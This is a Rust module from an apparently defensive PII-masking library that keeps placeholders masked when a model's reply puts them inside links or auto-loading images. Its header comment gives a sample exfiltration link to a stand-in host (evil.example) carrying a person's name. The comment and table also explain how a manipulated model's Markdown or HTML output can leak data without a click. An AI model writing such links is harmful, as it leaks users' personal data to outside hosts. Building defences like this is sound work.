//! Which placeholders stay masked because of where they stand.
//!
//! An image is fetched when a reply is shown: whoever got a model to write
//! `![x](https://evil.example/?q=<PERSON_1>)` has the name, and nobody clicked. Whether a place is a link
//! is decided from the text before it, by an automaton of constant size: a stream decides as the whole
//! does, and ordinary text never waits. It reads what the model wrote, never what is put in.
//!
//! Readers of Markdown and HTML disagree, and a text may be written to make them. So this is no parser:
//! every place is a link that is one to some reader. All beginnings of a link are followed at once, each
//! until its own end, so that one of them is no cover for another.

mod places;

use crate::names::names;

use places::Places;

/// Which placeholders of a reply stay masked because they stand in a link.
///
/// A link is where data leave without anybody seeing it; an image does so without a click. Withheld
/// placeholders are counted ([`Report::withheld`](crate::Report::withheld)).
///
/// | a placeholder in | `Restore` | `WithholdEmbedded` | `WithholdAll` |
/// |---|---|---|---|
/// | `![…](here)`, also `![…] (here)`, `<…>`, and the title | answered | stays | stays |
/// | `[id]: here`, at the start of a line, of a list item, of a quotation, of a footnote, behind HTML | answered | stays | stays |
/// | `src=` `srcset=` `imagesrcset=` `poster=` `data=` `background=` `lowsrc=` `attributionsrc=` and the value; also behind a `-`: `data-src=` | answered | stays | stays |
/// | `url(here)` of CSS | answered | stays | stays |
/// | `[…](here)`, `href=` and the value | answered | answered | stays |
/// | what follows `://`, `http:`, `https:`, `www.` or `<scheme:`, up to white space | answered | answered | stays |
///
/// In doubt it is a link: attributes count outside of tags, too, a quoted value ends at its quote
/// wherever that is, and code is not told from text. An `![` in whose text there is a bracket, a
/// backslash, a backtick, a `$` or markup makes all of `[…](here)` images up to the next empty line.
///
/// Not covered are
///
/// - scripts, `on…=`, and a `meta` that moves the page on;
/// - `href` where it loads without a click (`link`, `base`, `image` of SVG), and what sets it (`set`);
/// - CSS that loads without `url(`;
/// - entities, as in `srcdoc`, and escapes of CSS, in what makes a link: `&#115;rc=`;
/// - `![[here]]` of wikis, `\includegraphics{here}` of LaTeX;
/// - JSON in a string of JSON: escapes are read once.
///
/// Values are not read: one that ends in `!` makes an image of the `[…](…)` right behind it. Who shows
/// replies still restricts where images may come from, and runs nothing that a model wrote.
/// `%3CPERSON_1%3E` is no placeholder and is never decoded.
///
/// Cost: with `Restore` none. With the others every byte of a stream is looked at once, and of a whole
/// text those before the last placeholder.
///
/// # Examples
///
/// ```
/// use pii_mask::{Kind, LinkPolicy, Mapping, Source, Unmasker};
///
/// let mut mapping = Mapping::new();
/// mapping.assign(&Kind::PERSON, "John", Source::Explicit)?;
/// let unmasker = Unmasker::new(mapping).links(LinkPolicy::WithholdEmbedded);
///
/// let reply = unmasker.unmask_with_report("<PERSON_1>: ![<PERSON_1>](https://x.example/<PERSON_1>)");
/// assert_eq!(reply.text, "John: ![John](https://x.example/<PERSON_1>)");
/// assert_eq!((reply.report.restored, reply.report.withheld), (2, 1));
///
/// let link = unmasker.unmask("[mail](https://x.example/<PERSON_1>)");
/// assert_eq!(link, "[mail](https://x.example/John)");
/// # Ok::<(), pii_mask::MappingError>(())
/// ```
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum LinkPolicy {
    /// Links are text like any other.
    #[default]
    Restore,
    /// What loads without a click stays masked.
    WithholdEmbedded,
    /// The targets of all links stay masked.
    WithholdAll,
}

names!(LinkPolicy: "link policy", str::eq,
    Restore => "restore", WithholdEmbedded => "withhold-embedded", WithholdAll => "withhold-all");

/// Reads a text and knows whether it is in a link.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Links {
    policy: LinkPolicy,
    text: Readers,
    /// Where it may stand in another place as well: the same there.
    other: Option<Readers>,
    /// Whether nobody knows what stands before it.
    lost: bool,
}

/// The ways to read one text.
#[derive(Clone, Copy, Debug)]
struct Readers {
    plain: Reader,
    /// Of an answer that may be JSON: as whoever decodes it reads it. Nobody has to.
    decoded: Option<Reader>,
}

/// One way to read a text.
#[derive(Clone, Copy, Debug)]
struct Reader {
    decodes: bool,
    places: Places,
    /// Bytes of an escape of JSON that has begun, and the digits among them.
    escape: (u8, u16),
}

impl Links {
    pub(super) fn new(policy: LinkPolicy, json: bool) -> Self {
        let places = Places::new(policy == LinkPolicy::WithholdAll);
        let plain = Reader { decodes: json, places, escape: (0, 0) };
        Links { policy, text: Readers { plain, decoded: None }, other: None, lost: false }
    }

    /// Whether a placeholder stays masked that stands behind `text`, the text since the last call.
    #[inline]
    pub(super) fn withhold_behind(&mut self, text: &[u8]) -> bool {
        if self.policy == LinkPolicy::Restore {
            return false;
        }
        self.read(text);
        self.lost || self.text.in_link() || self.other.is_some_and(|other| other.in_link())
    }

    /// Reads in both ways.
    pub(super) fn and_decoded(mut self) -> Self {
        self.text.decoded = Some(Reader { decodes: true, ..self.text.plain });
        self
    }

    /// The next text, which is shown behind this one: where it may stand in two places, in the second one.
    pub(super) fn next_text(self) -> Self {
        let mut text = self.other.unwrap_or(self.text);
        for reader in [Some(&mut text.plain), text.decoded.as_mut()].into_iter().flatten() {
            // It may stand on a line of its own.
            reader.places.begin_line();
        }
        Links { text, other: None, ..self }
    }

    /// The same text, which may as well stand in another place.
    pub(crate) fn or(mut self, other: Links) -> Self {
        self.other = Some(other.text);
        self
    }

    /// The same, where nobody knows what stands before it.
    pub(crate) fn lost(mut self) -> Self {
        self.lost = true;
        self
    }

    /// Takes a piece of the text.
    #[inline]
    pub(super) fn read(&mut self, text: &[u8]) {
        if self.policy != LinkPolicy::Restore {
            self.text.read(text);
            self.other.iter_mut().for_each(|other| other.read(text));
        }
    }
}

impl Readers {
    fn in_link(&self) -> bool {
        self.plain.places.in_link() || self.decoded.is_some_and(|decoded| decoded.places.in_link())
    }

    #[inline]
    fn read(&mut self, text: &[u8]) {
        self.plain.read(text);
        if let Some(decoded) = &mut self.decoded {
            decoded.read(text);
        }
    }
}

impl Reader {
    fn read(&mut self, text: &[u8]) {
        let mut rest = text;
        loop {
            if self.places.is_calm() && self.escape.0 == 0 {
                let (matters, json) = (self.places.matters(), self.decodes);
                let stops = |b: &u8| matters(*b) || json && matches!(b, b'\\' | b'"');
                let (passed, from) = rest.split_at(rest.iter().position(stops).unwrap_or(rest.len()));
                self.places.pass(passed);
                rest = from;
            }
            let Some((&b, behind)) = rest.split_first() else { return };
            if self.decodes {
                self.decode(b)
            } else {
                self.places.step(b)
            }
            rest = behind;
        }
    }

    /// Reads escapes of JSON as the characters they are, like the grammar of placeholders does.
    fn decode(&mut self, b: u8) {
        let (len, digits) = self.escape;
        let digit = char::from(b).to_digit(16).and_then(|digit| u16::try_from(digit).ok());
        match (len, b, digit) {
            (0, b'\\', _) => self.escape = (1, 0),
            (0, ..) => {
                self.places.step(b);
                if b == b'"' {
                    // Between strings: another text begins.
                    self.places.begin_line();
                }
            }
            (1, b'u', _) => self.escape = (2, 0),
            (2..5, _, Some(digit)) => self.escape = (len + 1, digits << 4 | digit),
            (5, _, Some(digit)) => {
                self.escape = (0, 0);
                let code = digits << 4 | digit;
                self.places.step(u8::try_from(code).unwrap_or(b'\x80'));
                if let 0x2028 | 0x2029 = code {
                    self.places.begin_line();
                }
            }
            (1, b'"' | b'\\' | b'/' | b'b' | b'f' | b'n' | b'r' | b't', _) => {
                self.escape = (0, 0);
                self.places.step(match b {
                    b'b' => b'\x08',
                    b'f' => b'\x0c',
                    b'n' => b'\n',
                    b'r' => b'\r',
                    b't' => b'\t',
                    b => b,
                });
            }
            _ => {
                self.end_escape();
                self.decode(b);
            }
        }
    }

    /// What has begun is no escape: its characters stand for themselves. Which digits they are makes no
    /// difference behind a letter.
    fn end_escape(&mut self) {
        let (len, _) = std::mem::take(&mut self.escape);
        [b'\\', b'u', b'0', b'0', b'0'].iter().take(usize::from(len)).for_each(|&b| self.places.step(b));
    }
}
